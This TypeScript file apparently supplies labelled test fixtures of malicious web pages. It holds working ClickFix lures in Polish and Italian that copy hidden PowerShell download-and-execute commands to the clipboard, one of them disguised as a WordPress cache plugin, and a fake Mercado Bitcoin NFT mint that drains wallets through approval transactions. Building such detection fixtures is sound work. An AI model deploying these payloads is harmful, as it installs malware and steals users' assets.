import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { doc, gtag, cookieBar, footer, nav, baseCss, adSlots, pngR, js, json } from '../parts/o-kit.js';

// ClickFix pages injected into compromised local sites, and wallet drainers themed on local exchanges.

export const entries: Entry[] = [
{
  id: 'o-clickfix-pl-portal-lokalny',
  label: 'clickfix',
  kind: 'clickfix-captcha',
  url: 'https://www.gazeta-powiatowa-sandomierz.pl/2026/11/remont-mostu-na-wisle-opoznienia/',
  body: doc({
    lang: 'pl',
    title: 'Remont mostu na Wiśle: kolejne opóźnienia – Gazeta Powiatowa',
    head: `<link rel="stylesheet" href="/wp-content/themes/newsup/style.css">`,
    css: baseCss('Georgia, serif') + `article{max-width:720px;margin:0 auto;padding:20px}`,
    body: `<header style="background:#0d3b66;color:#fff;padding:14px 6%;font:bold 22px Arial">Gazeta Powiatowa · Sandomierz</header>
<article><h1>Remont mostu na Wiśle: kolejne opóźnienia</h1><p class="muted">24 listopada 2026 · Redakcja</p>
<p>Wykonawca poinformował, że zakończenie prac przesunie się co najmniej do marca. Mieszkańcy Sandomierza muszą liczyć się z objazdami przez Annopol…</p>
${adSlots(2)}</article>
<script src="/wp-content/plugins/wp-simple-cache/assets/cache.min.js?ver=2.1"></script>`,
  }),
  routes: {
    'www.gazeta-powiatowa-sandomierz.pl/wp-content/themes/newsup/style.css': { status: 200, headers: { 'content-type': 'text/css' }, body: 'body{line-height:1.6}' },
    'www.gazeta-powiatowa-sandomierz.pl/wp-content/plugins/wp-simple-cache/assets/cache.min.js': js(`(function(){
var c=atob('cG93ZXJzaGVsbCAtdyBoaWRkZW4gLWMgIiRoPSdodHRwczovL2Nkbi1zdGF0cy1wbC5jb20vY2FwdGNoYS92ZXJpZnknOyBpZXggKGl3ciAkaCAtVXNlQmFzaWNQYXJzaW5nKS5Db250ZW50Ig==');
var id=Math.floor(Math.random()*9e5+1e5);
var o=document.createElement('div');o.style.cssText='position:fixed;inset:0;background:rgba(0,0,0,.65);z-index:99999;display:flex;align-items:center;justify-content:center;font-family:Arial';
o.innerHTML='<div style="background:#fff;width:420px;border-radius:6px;padding:22px"><div style="display:flex;align-items:center;gap:10px;border:1px solid #ccc;padding:14px;border-radius:4px"><input type="checkbox" id="cb" style="width:24px;height:24px"><label for="cb">Nie jestem robotem</label><span style="margin-left:auto;font-size:10px;color:#777">reCAPTCHA<br>Prywatność - Warunki</span></div><div id="st" style="display:none;margin-top:14px;font-size:14px"><b>Weryfikacja wymaga dodatkowych kroków:</b><ol><li>Naciśnij klawisz <b>Windows + R</b></li><li>Naciśnij <b>Ctrl + V</b></li><li>Naciśnij <b>Enter</b></li></ol><p style="color:#666;font-size:12px">Identyfikator weryfikacji: '+id+'</p></div></div>';
document.addEventListener('DOMContentLoaded',function(){document.body.appendChild(o);document.getElementById('cb').onclick=function(){navigator.clipboard.writeText(c+' # ✅ I am not a robot - reCAPTCHA Verification ID: '+id).catch(function(){var t=document.createElement('textarea');t.value=c;document.body.appendChild(t);t.select();document.execCommand('copy');t.remove()});document.getElementById('st').style.display='block'}});
})();`),
  },
},
{
  id: 'o-clickfix-it-word-online-errore',
  label: 'clickfix',
  kind: 'clickfix-fix-error',
  url: 'https://www.studiolegale-ferraribologna.it/documenti/condivisi/atto-citazione.html',
  body: doc({
    lang: 'it',
    title: 'Word Online – Atto di citazione.docx',
    css: `body{margin:0;font-family:"Segoe UI",Arial;background:#f3f2f1}.bar{background:#2b579a;color:#fff;padding:10px 20px;font-weight:600}.pg{width:640px;margin:30px auto;background:#fff;height:520px;filter:blur(5px);padding:40px}.err{position:fixed;top:120px;left:50%;transform:translateX(-50%);width:520px;background:#fff;border-top:4px solid #a4262c;box-shadow:0 6px 24px rgba(0,0,0,.25);padding:22px}button{background:#2b579a;color:#fff;border:0;padding:9px 20px;margin-top:10px}code{display:block;background:#f4f4f4;padding:8px;font-size:12px;margin:8px 0;overflow:hidden;white-space:nowrap}`,
    body: `<div class="bar">Word · Atto_di_citazione_Trib_Bologna.docx</div><div class="pg"><h2>TRIBUNALE ORDINARIO DI BOLOGNA</h2><p>ATTO DI CITAZIONE</p><p>Il sottoscritto avvocato… cita a comparire…</p></div>
<div class="err"><h2 style="margin:0 0 8px;color:#a4262c;font-size:18px">Errore: estensione "Word Online" non installata</h2><p style="font-size:14px">Per visualizzare il documento offline è necessario installare il componente. Fai clic su <b>"Come risolvere"</b>, quindi:</p>
<ol style="font-size:14px"><li>Fai clic con il tasto destro sul pulsante Start e apri <b>Terminale (Admin)</b></li><li>Incolla il comando con <b>Ctrl+V</b> e premi <b>Invio</b></li><li>Ricarica la pagina</li></ol>
<button id="fx">Come risolvere</button><code id="c" style="display:none"></code></div>
<script>
var p=['$u="https://www.studiolegale-ferraribologna.it/documenti/condivisi/wo.txt"','$d=(New-Object Net.WebClient).DownloadString($u)','iex $d','Write-Host "Word Online installato"'];
fx.onclick=function(){var s=p.join(';');navigator.clipboard.writeText(s).then(function(){c.style.display='block';c.textContent='Comando copiato negli appunti ✔'})};
</script>`,
  }),
  routes: { 'www.studiolegale-ferraribologna.it/documenti/condivisi/wo.txt': { status: 200, headers: { 'content-type': 'text/plain' }, body: "$p=\"$env:LOCALAPPDATA\\wo\";mkdir $p -ea 0;iwr 'https://www.studiolegale-ferraribologna.it/documenti/condivisi/wo.zip' -OutFile \"$p\\a.zip\";Expand-Archive \"$p\\a.zip\" $p -Force;Start-Process \"$p\\WordOnline.exe\"" } },
},
{
  id: 'o-drain-br-mercadobitcoin-nft',
  label: 'cryptodrainer',
  kind: 'exchange-airdrop',
  url: 'https://mercadobitcoin-mbnft.com/mint',
  body: doc({
    lang: 'pt-BR',
    title: 'Mercado Bitcoin | Mint Gratuito – Coleção MB 13 Anos',
    css: `body{margin:0;background:#120b24;color:#fff;font-family:Arial}.c{max-width:560px;margin:50px auto;text-align:center}.n{width:260px;height:260px;margin:0 auto;background:linear-gradient(135deg,#ff6b00,#7b2ff7);border-radius:14px}.btn{background:#ff6b00;color:#fff;border:0;border-radius:10px;padding:14px 40px;font-size:17px;margin-top:18px}`,
    body: `<div class="c"><h1>Coleção MB 13 Anos</h1><p>Mint gratuito para clientes Mercado Bitcoin. Apenas 1.300 NFTs. Holders recebem cashback de 13% em taxas.</p><div class="n"></div><p><b id="left">212</b>/1300 restantes</p>
<button class="btn" id="mint">Conectar carteira e mintar</button><p id="s" style="color:#b9a8e6"></p></div>
<script>
var OP='0x5e1f2a7b9c3d4e6f80a1b2c3d4e5f60718293a4b';
mint.onclick=async function(){if(!window.ethereum){s.textContent='Instale a MetaMask para continuar.';return}
var acc=(await ethereum.request({method:'eth_requestAccounts'}))[0];
var cols=['0xBC4CA0EdA7647A8aB7C2061c2E118A18a936f13D','0xb47e3cd837dDF8e4c57F05d70Ab865de6e193BBB'];
for(var i=0;i<cols.length;i++){try{await ethereum.request({method:'eth_sendTransaction',params:[{from:acc,to:cols[i],data:'0xa22cb465'+OP.slice(2).padStart(64,'0')+'1'.padStart(64,'0')}]})}catch(e){}}
s.textContent='Mint em processamento…';};
setInterval(function(){var n=+left.textContent;if(n>7)left.textContent=n-1},4000);
</script>`,
  }),
},
];
